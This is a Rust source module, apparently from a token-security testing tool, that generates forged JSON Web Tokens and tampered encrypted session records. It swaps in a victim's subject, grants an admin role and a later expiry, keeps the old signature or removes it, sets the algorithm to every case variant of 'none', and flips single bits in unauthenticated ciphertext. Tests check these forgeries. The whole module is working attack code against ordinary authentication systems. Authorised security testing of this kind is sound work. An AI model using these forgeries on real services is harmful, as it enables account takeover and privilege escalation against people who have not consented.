//! Other claims in one's own token, with the old signature or with none.

use base64::Engine;
use base64::prelude::BASE64_URL_SAFE_NO_PAD;

use super::edit::Edit;
use super::{Forged, NotApplicable, Sample, not_applicable};
use crate::inspect::decode::{Jws, Object, compact, signing_input};

/// The sample's claims as the victim's, with the admin role and a later end.
pub(super) fn as_victim(sample: &Sample) -> Result<Vec<u8>, NotApplicable> {
    let mut claims = of(&sample.token()?)?;
    if !sample.victim.is_empty() {
        claims.insert("sub".to_owned(), sample.victim.clone().into());
    }
    changed(&mut claims, sample);
    Ok(written(&claims))
}

/// How many places of a sealed record are tried.
const PLACES: usize = 16;

/// The victim's claims first; then one's own with a higher role, in case only the role is believed.
pub(super) fn edited(sample: &Sample) -> Result<Vec<Forged>, NotApplicable> {
    if sample.sealed {
        return flipped(&sample.access);
    }
    signed_with(sample, true, "")
}

/// The same without a signature: the header still names an algorithm.
pub(super) fn stripped(sample: &Sample) -> Result<Vec<Forged>, NotApplicable> {
    signed_with(sample, false, ", no signature")
}

fn signed_with(sample: &Sample, old: bool, how: &str) -> Result<Vec<Forged>, NotApplicable> {
    let token = sample.token()?;
    let signature = if old { token.signature.as_slice() } else { &[] };
    let edited = |variant: &str, payload: &[u8]| {
        Forged::new(format!("{variant}{how}"), compact(&signing_input(&token.header, payload), signature))
    };
    if !sample.edits.is_empty() {
        return Ok(vec![edited("the claims as they were asked for", &as_victim(sample)?)]);
    }
    let mut own = of(&token)?;
    changed(&mut own, sample);
    let own = edited("one's own id and the admin role", &written(&own));
    if sample.victim.is_empty() {
        return Ok(vec![own]);
    }
    Ok(vec![edited("the victim's id and the admin role", &as_victim(sample)?), own])
}

/// Nobody reads what is sealed. But a cipher that nobody authenticates passes a changed bit on to the content (CWE-353), so
/// one bit is changed at a time, all over the record.
fn flipped(sealed: &str) -> Result<Vec<Forged>, NotApplicable> {
    let octets = BASE64_URL_SAFE_NO_PAD.decode(sealed).unwrap_or_default();
    if octets.is_empty() {
        return Err(not_applicable("what is sealed is no base64url: there is nothing in it to change"));
    }
    let places = PLACES.min(octets.len());
    let flipped = |place: usize| {
        let (at, mut octets) = (place * octets.len() / places, octets.clone());
        octets[at] ^= 1;
        Forged::new(format!("one bit of octet {at}"), BASE64_URL_SAFE_NO_PAD.encode(octets))
    };
    Ok((0..places).map(flipped).collect())
}

/// `none` in its sixteen spellings, each with no signature and with the old one.
pub(super) fn unsigned(sample: &Sample) -> Result<Vec<Forged>, NotApplicable> {
    let token = sample.token()?;
    let payload = as_victim(sample)?;
    let unsigned = |alg: String| {
        let mut header = token.header.clone();
        header.insert("alg".to_owned(), alg.clone().into());
        let input = signing_input(&header, &payload);
        let signed =
            |signature: &[u8], how: &str| Forged::new(format!("alg {alg:?}, {how}"), compact(&input, signature));
        [signed(&[], "no signature"), signed(&token.signature, "the old signature")]
    };
    Ok(spellings("none").into_iter().flat_map(unsigned).collect())
}

/// Every way to write a word in small and capital letters, beginning with small ones.
fn spellings(word: &str) -> Vec<String> {
    let spelt = |bits: u32| {
        let letter = |(at, c): (usize, char)| if bits >> at & 1 == 1 { c.to_ascii_uppercase() } else { c };
        word.chars().enumerate().map(letter).collect()
    };
    (0..1 << word.chars().count()).map(spelt).collect()
}

/// The claims of a token, to be changed.
pub(super) fn of(token: &Jws) -> Result<Object, NotApplicable> {
    token.claims().map_err(|_| not_applicable("the token carries no claims that could be changed"))
}

fn changed(claims: &mut Object, sample: &Sample) {
    match sample.edits.as_slice() {
        [] => [Edit::Set("role".to_owned(), "admin".into()), Edit::Longer].iter().for_each(|edit| edit.apply(claims)),
        edits => edits.iter().for_each(|edit| edit.apply(claims)),
    }
}

pub(super) fn written(claims: &Object) -> Vec<u8> {
    serde_json::to_vec(claims).expect("a JSON object can be written")
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn a_sealed_record_is_changed_by_one_bit_at_a_time() {
        let octets: Vec<u8> = (0..50).collect();
        let forged = flipped(&BASE64_URL_SAFE_NO_PAD.encode(&octets)).expect("can be changed");
        assert_eq!(forged.len(), PLACES);
        for one in forged {
            let changed = BASE64_URL_SAFE_NO_PAD.decode(&one.credential).expect("is base64url");
            let bits: u32 = changed.iter().zip(&octets).map(|(a, b)| (a ^ b).count_ones()).sum();
            assert_eq!((bits, changed.len()), (1, 50), "{one:?}");
        }
        assert_eq!(flipped("AQ").expect("can be changed").len(), 1);
        assert!(flipped("").is_err() && flipped("!").is_err());
    }

    #[test]
    fn none_has_sixteen_spellings() {
        let all = spellings("none");
        assert_eq!((all.len(), all.iter().collect::<BTreeSet<_>>().len()), (16, 16));
        for spelling in ["none", "None", "NONE", "nOnE", "noNE"] {
            assert!(all.iter().any(|one| one == spelling), "{spelling}");
        }
    }
}
